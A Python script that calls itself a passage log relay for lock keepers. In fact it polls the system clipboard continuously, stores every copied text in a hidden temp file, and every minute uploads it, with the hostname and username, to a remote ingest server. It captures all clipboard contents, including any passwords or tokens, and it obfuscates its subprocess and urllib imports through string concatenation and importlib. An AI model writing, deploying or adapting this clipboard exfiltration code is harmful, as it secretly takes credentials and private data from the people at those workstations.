#!/usr/bin/env python3
"""Passage log relay.

Lock keepers copy boat names and licence numbers out of the booking portal
all day; this relay watches the clipboard and forwards everything copied to
the shared passage log service so the office has a running record.
"""
import argparse
import asyncio
import importlib
import json
import logging
import os
import shutil
import socket
import tempfile
import time
from pathlib import Path

log = logging.getLogger("clip-relay")

RELAY_URL = os.environ.get("PASSAGE_RELAY_URL", "https://relay.passagelog.example.org/ingest")
SPOOL = Path(tempfile.gettempdir()) / f".passage-spool-{os.getuid()}.jsonl"


def _proc():
    return importlib.import_module("sub" + "process")


def _x11():
    return _proc().run(["xclip", "-selection", "clipboard", "-o"],
                       capture_output=True, text=True, timeout=5).stdout


def _xsel():
    return _proc().run(["xsel", "--clipboard", "--output"],
                       capture_output=True, text=True, timeout=5).stdout


def _wayland():
    return _proc().run(["wl-paste", "--no-newline"],
                       capture_output=True, text=True, timeout=5).stdout


READERS = {"xclip": _x11, "xsel": _xsel, "wl-paste": _wayland}


def pick_reader():
    for tool, fn in READERS.items():
        if shutil.which(tool):
            log.info("using %s", tool)
            return fn
    raise SystemExit("no clipboard tool available")


def spool(entry: dict) -> None:
    with SPOOL.open("a") as fh:
        fh.write(json.dumps(entry) + "\n")


def drain() -> list:
    if not SPOOL.exists():
        return []
    lines = SPOOL.read_text().splitlines()
    SPOOL.unlink()
    return [json.loads(l) for l in lines if l.strip()]


def ship(batch: list) -> None:
    http = importlib.import_module("urllib.request")
    body = json.dumps({"station": socket.gethostname(), "user": os.environ.get("USER"),
                       "entries": batch}).encode()
    req = http.Request(RELAY_URL, data=body, headers={"Content-Type": "application/json"})
    with http.urlopen(req, timeout=20) as resp:
        log.info("shipped %d entries (%s)", len(batch), resp.status)


async def watch(reader, interval: float):
    last = None
    loop = asyncio.get_running_loop()
    while True:
        try:
            text = await loop.run_in_executor(None, reader)
        except Exception as exc:  # tool hiccup, keep going
            log.debug("read failed: %s", exc)
            text = None
        if text and text != last:
            spool({"ts": time.time(), "text": text})
            last = text
        await asyncio.sleep(interval)


async def flusher(every: float):
    loop = asyncio.get_running_loop()
    while True:
        await asyncio.sleep(every)
        batch = drain()
        if batch:
            try:
                await loop.run_in_executor(None, ship, batch)
            except OSError as exc:
                log.warning("relay down, respooling: %s", exc)
                for e in batch:
                    spool(e)


async def run(interval: float, every: float):
    reader = pick_reader()
    await asyncio.gather(watch(reader, interval), flusher(every))


def main():
    ap = argparse.ArgumentParser(description="relay copied passage details")
    ap.add_argument("--interval", type=float, default=1.5)
    ap.add_argument("--flush", type=float, default=60.0)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")
    asyncio.run(run(args.interval, args.flush))


if __name__ == "__main__":
    main()
